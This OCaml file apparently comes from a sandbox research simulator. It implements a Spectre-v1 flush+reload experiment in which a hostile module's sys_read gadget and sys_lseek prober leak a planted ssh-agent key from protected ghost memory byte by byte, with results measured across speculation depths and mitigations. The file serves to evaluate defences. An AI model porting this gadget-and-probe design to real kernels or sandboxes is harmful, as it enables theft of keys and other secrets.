(* Spectre-v1 against the static sandbox: the mask sequence decides
   with a conditional select whether an address stays inside the ghost
   partition, and on a speculative machine the select predicts — for a
   window of [Machine.spec_depth] macro-ops the kernel transiently runs
   with the *unmasked* ghost address.  The transient load's value is
   architecturally squashed, but the cache line it pulls in is not:
   encoding the loaded byte in which of 256 probe lines is warm turns
   the window into a byte-at-a-time oracle over ghost memory, past an
   instrumentation pass that is perfectly sound architecturally.

   The attack needs depth >= 8 macro-ops: after the mispredicted first
   select of the gadget's mask window the transient stream is the three
   SVA-range checks (3), the second select yielding the raw ghost
   address (1), the secret load (1), the shift and add forming the
   probe address (2), and the probe access — whose own mask window the
   speculative frontend has already fused into one macro-op with its
   load (1).  At any smaller budget the probe line is never touched and
   the attack recovers nothing; at depth 0 the machine has no cache
   side channel at all. *)

let secret_string = "gh0st-SPECTRE-key!47"

let probe_lines = 256
let line_size = 64 (* Machine cache-line granularity: line = va lsr 6 *)

(* ------------------------------------------------------------------ *)
(* Module IR: gadget and prober, loaded as one hostile module          *)

(* sys_read override — the leak gadget.  [buf] arrives attacker-chosen
   as a ghost virtual address.  Architecturally the sandbox escapes it
   and the load absorbs to 0 (so the architectural probe access always
   touches line 0, which the prober ignores); transiently the secret
   byte selects one of the 256 probe lines. *)
let gadget_program b ~probe_base =
  Builder.func b "sys_read" ~params:[ "fd"; "buf"; "len" ];
  let byte = Builder.load b ~width:Ir.W8 (Ir.Reg "buf") in
  let line = Builder.bin b Shl byte (Imm 6L) in
  let slot = Builder.bin b Add line (Imm probe_base) in
  let _ = Builder.load b slot in
  Builder.ret b (Some (Ir.Imm 0L))

(* sys_lseek override — the reload half of flush+reload.  One
   architectural load of the attacker-passed address; the caller times
   the syscall and reads the hit/miss difference off the cycle counter.
   Its own mask window speculates too, but on a non-ghost probe address
   the mispredicted select yields the *escaped* (unmapped) variant, so
   the prober's transient stream squashes without polluting the very
   cache state it measures. *)
let prober_program b =
  Builder.func b "sys_lseek" ~params:[ "fd"; "pos" ];
  let _ = Builder.load b (Ir.Reg "pos") in
  Builder.ret b (Some (Ir.Imm 0L))

let module_program ~probe_base =
  let b = Builder.create () in
  gadget_program b ~probe_base;
  prober_program b;
  Builder.program b

(* ------------------------------------------------------------------ *)
(* The experiment                                                      *)

type outcome = {
  spec_depth : int;
  mitigation : Vg_compiler.Mitigation.t;
  secret : string;
  leaked : string;  (** recovered bytes; ['?'] where no unique hot line *)
  bytes_recovered : int;
  success : bool;  (** the full secret was recovered *)
  windows : int;  (** transient windows opened (machine-wide) *)
  transient_loads : int;
}

let pp_outcome fmt o =
  Format.fprintf fmt
    "spectre-v1 at depth %d, mitigation %s: recovered %d/%d bytes (%S) \
     windows=%d transient-loads=%d"
    o.spec_depth
    (Vg_compiler.Mitigation.to_string o.mitigation)
    o.bytes_recovered (String.length o.secret) o.leaked o.windows
    o.transient_loads

let align64 va = Int64.logand (Int64.add va 63L) (Int64.lognot 63L)

let run_experiment ?(cpus = 1) ?(spec_depth = 12)
    ?(mitigation = Vg_compiler.Mitigation.Off) ~obs () =
  let config =
    Vg_fleet.Node_config.(
      default |> with_cpus cpus |> with_phys_frames 16384
      |> with_disk_sectors 16384 |> with_spec_depth spec_depth
      |> with_seed "spectre" |> with_mode Sva.Virtual_ghost
      |> with_spec_mitigation mitigation |> with_obs obs)
  in
  let node = Vg_fleet.Node.boot config in
  let machine = Vg_fleet.Node.machine node in
  let k = Vg_fleet.Node.kernel node in
  let _, _, agent = Ssh_suite.install_images k ~app_key:(Bytes.make 16 'k') in
  let recovered = Buffer.create 32 in
  Runtime.launch k ~image:agent ~ghosting:true (fun victim ->
      (* The victim: ssh-agent parks its key in ghost memory, exactly
         the data the architectural sandbox provably protects. *)
      let secret_va = Ssh_suite.agent_store_secret victim secret_string in
      let proc = victim.Runtime.proc in
      (* The attacker's probe array: 256 cache lines of plain user
         memory, mapped up front so reload timings differ only by
         cache state. *)
      let raw = Runtime.ualloc victim ((probe_lines + 1) * line_size) in
      let probe_base = align64 raw in
      (match
         Kernel.ensure_user_range k proc probe_base
           ~len:(probe_lines * line_size)
       with
      | Ok () -> ()
      | Error e -> failwith ("spectre: probe array: " ^ Errno.to_string e));
      (* The hostile module goes through the instrumenting compiler and
         the signed translation cache like any other — the whole point
         is that the attack survives honest instrumentation. *)
      (match Module_loader.load k ~name:"spectre" (module_program ~probe_base)
       with
      | Ok () -> ()
      | Error e ->
          failwith ("spectre: module load: " ^ Module_loader.describe_load_error e));
      let time_probe l =
        let addr = Int64.add probe_base (Int64.of_int (l * line_size)) in
        let t0 = Machine.cycles machine in
        ignore (Syscalls.lseek k proc ~fd:0 ~pos:(Int64.to_int addr));
        Machine.cycles machine - t0
      in
      let leak_byte j =
        Machine.spec_flush machine;
        (* Fire the gadget: sys_read with the ghost address as "buf". *)
        ignore
          (Syscalls.read k proc ~fd:0
             ~buf:(Int64.add secret_va (Int64.of_int j))
             ~len:1);
        let deltas = Array.init probe_lines time_probe in
        (* Line 0 is disqualified twice over: the absorbed-to-zero
           architectural probe access warms it on every run, and being
           measured first it also soaks up the post-flush cold misses
           on the kernel's own dispatch lines.  Secret bytes are
           printable ASCII, never 0. *)
        let m = ref max_int in
        for l = 1 to probe_lines - 1 do
          if deltas.(l) < !m then m := deltas.(l)
        done;
        let hot = ref [] in
        for l = probe_lines - 1 downto 1 do
          if deltas.(l) < !m + (Cost.cache_miss / 2) then hot := l :: !hot
        done;
        match !hot with [ l ] -> Some (Char.chr l) | _ -> None
      in
      String.iteri
        (fun j _ ->
          Buffer.add_char recovered
            (match leak_byte j with Some c -> c | None -> '?'))
        secret_string;
      Module_loader.unload k ~name:"spectre");
  let leaked = Buffer.contents recovered in
  let hits = ref 0 in
  String.iteri
    (fun i c -> if i < String.length leaked && leaked.[i] = c then incr hits)
    secret_string;
  let stats = Machine.spec_stats machine in
  {
    spec_depth;
    mitigation;
    secret = secret_string;
    leaked;
    bytes_recovered = !hits;
    success = leaked = secret_string;
    windows = stats.Machine.windows;
    transient_loads = stats.Machine.transient_loads;
  }
